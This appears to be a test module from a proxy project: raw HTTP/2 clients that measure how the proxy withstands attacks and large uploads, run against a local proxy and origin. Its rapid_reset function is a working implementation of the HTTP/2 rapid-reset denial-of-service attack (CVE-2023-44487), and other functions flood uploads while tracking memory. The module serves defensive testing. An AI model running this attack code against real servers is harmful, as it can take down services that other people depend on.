"""Raw HTTP/2 clients for end-to-end tests and measurements, through the proxy's CONNECT tunnel.

- ``rapid_reset``: the rapid-reset attack (CVE-2023-44487): HEADERS immediately
  followed by RST_STREAM(CANCEL), as fast as the socket takes them, noting between
  batches what the proxy answers (GOAWAY, refusals).
- ``h2_get``: one ordinary request on a fresh connection (the canary).
- ``h2_upload``: a big request body, sent as fast as flow control allows.

Run by hand against a proxy and origin started here, to measure the attack:

    .venv/bin/python -m tests.h2_clients [STREAMS] [proxy options...]

or answers before the body and held uploads (docs/hardening.md, HTTP/2):

    .venv/bin/python -m tests.h2_clients early-answer [proxy options...]
"""

from __future__ import annotations

import select
import socket
import ssl
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions


@dataclass
class AttackResult:
    streams_sent: int = 0
    seconds: float = 0.0
    goaway_code: int | None = None
    goaway_seconds: float | None = None  # since the first stream went out
    responses: int = 0
    refused: int = 0
    closed_by_proxy: bool = False
    errors: list[str] = field(default_factory=list)


def open_h2_tunnel(
    proxy_port: int, host: str, port: int, timeout: float = 10, tunnel: bool = True
) -> ssl.SSLSocket:
    """A TLS socket speaking h2 (ALPN) through the proxy's CONNECT tunnel; certificates
    unchecked. ``tunnel=False``: TLS right away, for a reverse proxy."""
    sock = socket.create_connection(("127.0.0.1", proxy_port), timeout=timeout)
    if tunnel:
        sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = sock.recv(4096)
            if not chunk:
                raise ConnectionError("proxy closed the CONNECT tunnel")
            head += chunk
        if not head.startswith(b"HTTP/1.1 200"):
            raise ConnectionError(f"CONNECT refused: {head[:100]!r}")
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    tls = context.wrap_socket(sock, server_hostname=host)
    if tls.selected_alpn_protocol() != "h2":
        raise ConnectionError(f"proxy did not negotiate h2 ({tls.selected_alpn_protocol()})")
    return tls


def h2_client() -> h2.connection.H2Connection:
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    return conn


def request_headers(host: str, port: int, path: str, method: str = "GET") -> list[tuple[bytes, bytes]]:
    return [
        (b":method", method.encode()),
        (b":scheme", b"https"),
        (b":authority", f"{host}:{port}".encode()),
        (b":path", path.encode()),
    ]


def rapid_reset(proxy_port: int, host: str, port: int, streams: int, batch: int = 100) -> AttackResult:
    """Send ``streams`` HEADERS+RST_STREAM pairs (paths /reset/N) and report what came back.

    One thread does both: an SSL socket must not be read and written concurrently."""
    result = AttackResult()
    tls = open_h2_tunnel(proxy_port, host, port)
    conn = h2_client()
    start = time.monotonic()

    def receive(wait: float) -> None:
        """Take in what the proxy sent, waiting up to ``wait`` seconds for the first bytes."""
        while not result.closed_by_proxy and (tls.pending() or select.select([tls], [], [], wait)[0]):
            wait = 0
            data = tls.recv(65536)
            if not data:
                result.closed_by_proxy = True
                return
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    result.goaway_code = event.error_code
                    result.goaway_seconds = time.monotonic() - start
                elif isinstance(event, h2.events.ResponseReceived):
                    result.responses += 1
                elif isinstance(event, h2.events.StreamReset) and event.error_code == 7:
                    result.refused += 1
            if result.goaway_code is None:
                tls.sendall(conn.data_to_send())

    try:
        tls.sendall(conn.data_to_send())
        sent = 0
        while sent < streams and result.goaway_code is None and not result.closed_by_proxy:
            for _ in range(min(batch, streams - sent)):
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, request_headers(host, port, f"/reset/{sent}"), end_stream=True)
                conn.reset_stream(stream_id, 8)  # CANCEL
                sent += 1
            result.streams_sent = sent
            tls.sendall(conn.data_to_send())
            receive(0)
        # Give the proxy a few seconds for its verdict (GOAWAY, or closing the connection).
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and result.goaway_code is None and not result.closed_by_proxy:
            receive(0.1)
    except (OSError, h2.exceptions.ProtocolError) as e:
        result.closed_by_proxy = True
        result.errors.append(repr(e))
    finally:
        result.seconds = time.monotonic() - start
        tls.close()
    return result


def h2_get(proxy_port: int, host: str, port: int, path: str, timeout: float = 30) -> tuple[int, bytes]:
    """One ordinary HTTP/2 GET through the proxy on a fresh connection: (status, body)."""
    tls = open_h2_tunnel(proxy_port, host, port, timeout)
    conn = h2_client()
    stream_id = conn.get_next_available_stream_id()
    conn.send_headers(stream_id, request_headers(host, port, path), end_stream=True)
    tls.sendall(conn.data_to_send())
    status, body = 0, b""
    try:
        while True:
            data = tls.recv(65536)
            if not data:
                raise ConnectionError("connection closed before the response ended")
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = int(dict(event.headers)[b":status"])
                elif isinstance(event, h2.events.DataReceived):
                    body += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    return status, body
                elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    raise ConnectionError(f"request failed: {event}")
            tls.sendall(conn.data_to_send())
    finally:
        tls.close()


@dataclass
class UploadResult:
    sent: int = 0
    status: int = 0
    body: bytes = b""
    seconds: float = 0.0
    reset_code: int | None = None  # RST_STREAM from the proxy


def h2_upload(
    proxy_port: int,
    host: str,
    port: int,
    path: str,
    size: int,
    give_up_after: float = 120,
    result: UploadResult | None = None,
    read_answer_first: bool = True,
    tunnel: bool = True,
) -> UploadResult:
    """POST ``size`` bytes on a fresh connection as fast as the windows allow; stops (and says
    how far it got) when no credit came for ``give_up_after`` seconds. Pass ``result`` to
    watch its progress from another thread. ``read_answer_first=False``: a complete answer
    does not stop the upload, only a reset does (RFC 9113 section 8.1)."""
    result = result if result is not None else UploadResult()
    tls = open_h2_tunnel(proxy_port, host, port, tunnel=tunnel)
    conn = h2_client()
    stream_id = conn.get_next_available_stream_id()
    conn.send_headers(stream_id, [*request_headers(host, port, path, "POST"), (b"content-length", b"%d" % size)])
    chunk = bytes(range(256)) * 1024  # more than any frame
    start = time.monotonic()
    ended = False
    try:
        tls.sendall(conn.data_to_send())
        while not ended:
            room = min(conn.local_flow_control_window(stream_id), conn.max_outbound_frame_size, size - result.sent)
            if room > 0:
                last = result.sent + room >= size
                conn.send_data(stream_id, chunk[:room], end_stream=last)
                result.sent += room
                tls.sendall(conn.data_to_send())
                if not last and not (tls.pending() or select.select([tls], [], [], 0)[0]):
                    continue
            elif not (tls.pending() or select.select([tls], [], [], give_up_after)[0]):
                break  # stuck: no credit, no answer
            try:
                data = tls.recv(65536)
            except TimeoutError:
                break
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    result.status = int(dict(event.headers)[b":status"])
                elif isinstance(event, h2.events.DataReceived):
                    result.body += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    ended = ended or read_answer_first
                elif isinstance(event, h2.events.StreamReset):
                    result.reset_code = event.error_code
                    ended = True
                elif isinstance(event, h2.events.ConnectionTerminated):
                    ended = True
            tls.sendall(conn.data_to_send())
    finally:
        result.seconds = time.monotonic() - start
        tls.close()
    return result


def rss_kib(pid: int, field: str = "VmRSS") -> int:
    """Resident memory of a process (Linux /proc), in KiB; ``VmHWM`` for its peak."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1])
    return 0


def measure_early_answer(extra: list[str]) -> None:
    """A 500 MB upload answered with 407 at requestheaders (the client uploads until told to
    stop), and a 64 MB upload held 3 s in requestheaders: what the client got to send."""
    from tests.e2e.test_e2e_h2_early_answer import GATE, HOLD_SECONDS
    from tests.e2e_servers import start_h2
    from tests.processes import Proxy

    with tempfile.TemporaryDirectory() as tmp:
        _loop, origin = start_h2(Path(tmp))
        script = Path(tmp) / "gate.py"
        script.write_text(GATE)
        proxy = Proxy(["-k", "-q", "-s", str(script), *extra], Path(tmp))
        try:
            h2_get(proxy.port, "localhost", origin, "/warmup")
            before = rss_kib(proxy.proc.pid)
            r = h2_upload(proxy.port, "localhost", origin, "/auth/x", 500 * 2**20, give_up_after=30, read_answer_first=False)
            print(f"407: status {r.status}, reset {r.reset_code}, client sent {r.sent / 2**20:.1f} MiB "
                  f"in {r.seconds:.2f} s, proxy RSS +{(rss_kib(proxy.proc.pid) - before) / 1024:.1f} MiB")
            before = rss_kib(proxy.proc.pid)
            progress = UploadResult()
            thread = threading.Thread(
                target=h2_upload, args=(proxy.port, "localhost", origin, "/sink/held", 64 * 2**20),
                kwargs={"result": progress},
            )
            thread.start()
            time.sleep(HOLD_SECONDS - 1)
            held, grown = progress.sent, rss_kib(proxy.proc.pid) - before
            thread.join(120)
            print(f"held {HOLD_SECONDS} s: client sent {held / 2**20:.1f} MiB during the hold, proxy RSS "
                  f"+{grown / 1024:.1f} MiB; then status {progress.status} after {progress.seconds:.2f} s")
            held, grown, status = http1_held_upload(proxy, 256 * 2**20, HOLD_SECONDS - 1)
            print(f"HTTP/1 held {HOLD_SECONDS} s: client sent {held / 2**20:.1f} MiB during the hold, "
                  f"proxy RSS +{grown / 1024:.1f} MiB; then {status!r}")
        finally:
            proxy.stop()


def http1_held_upload(proxy: Any, size: int, after: float) -> tuple[int, int, bytes]:
    """POST ``size`` bytes over HTTP/1 to a sink origin (path /held): how many bytes the client
    got out and how much the proxy's RSS grew in the first ``after`` seconds, and the status line."""
    from tests.e2e.test_e2e_h2_early_answer import http1_sink, read_head

    sink = http1_sink()
    before = rss_kib(proxy.proc.pid)
    sock = socket.create_connection(("127.0.0.1", proxy.port))
    sock.sendall(b"POST http://127.0.0.1:%d/held HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Length: %d\r\n\r\n"
                 % (sink, sink, size))
    sock.setblocking(False)
    chunk = b"z" * 2**20
    sent, start = 0, time.monotonic()
    held: tuple[int, int] | None = None
    while sent < size:
        if held is None and time.monotonic() - start > after:
            held = sent, rss_kib(proxy.proc.pid) - before
        if select.select([], [sock], [], 0.1)[1]:
            try:
                sent += sock.send(chunk[: size - sent])
            except BlockingIOError:
                pass
        if time.monotonic() - start > 120:
            raise TimeoutError(f"upload stuck at {sent} bytes")
    if held is None:  # all of it went out before the time was up
        held = sent, rss_kib(proxy.proc.pid) - before
    sock.setblocking(True)
    answer = read_head(sock)
    sock.close()
    return held[0], held[1], answer.split(b"\r\n", 1)[0]


def main() -> None:
    from tests.e2e_servers import start_h2
    from tests.processes import Proxy

    if sys.argv[1:2] == ["early-answer"]:
        measure_early_answer(sys.argv[2:])
        return
    streams = int(sys.argv[1]) if len(sys.argv) > 1 else 20_000
    extra = sys.argv[2:]
    with tempfile.TemporaryDirectory() as tmp:
        seen: list[str] = []
        _loop, origin = start_h2(Path(tmp), seen)
        proxy = Proxy(["-k", "-q", *extra], Path(tmp))
        try:
            h2_get(proxy.port, "localhost", origin, "/warmup")
            canary: dict[str, float] = {}

            def run_canary() -> None:
                time.sleep(0.5)
                t0 = time.monotonic()
                try:
                    h2_get(proxy.port, "localhost", origin, "/canary")
                    canary["seconds"] = time.monotonic() - t0
                except Exception as e:  # noqa: BLE001 - reported, not hidden
                    canary["error"] = repr(e)  # type: ignore[assignment]

            thread = threading.Thread(target=run_canary)
            thread.start()
            rss_before = rss_kib(proxy.proc.pid)
            result = rapid_reset(proxy.port, "localhost", origin, streams)
            thread.join(60)
            time.sleep(0.5)
            resets_seen = sum(1 for p in seen if p.startswith("/reset/"))
            print(f"streams sent: {result.streams_sent} in {result.seconds:.2f} s")
            print(f"GOAWAY: {result.goaway_code} after {result.goaway_seconds} s; closed: {result.closed_by_proxy}")
            print(f"responses: {result.responses}, refused: {result.refused}")
            print(f"reset streams that reached the origin: {resets_seen}")
            print(f"canary: {canary}")
            print(f"proxy RSS: {rss_before} KiB before, {rss_kib(proxy.proc.pid)} KiB after")
        finally:
            proxy.stop()


if __name__ == "__main__":
    main()
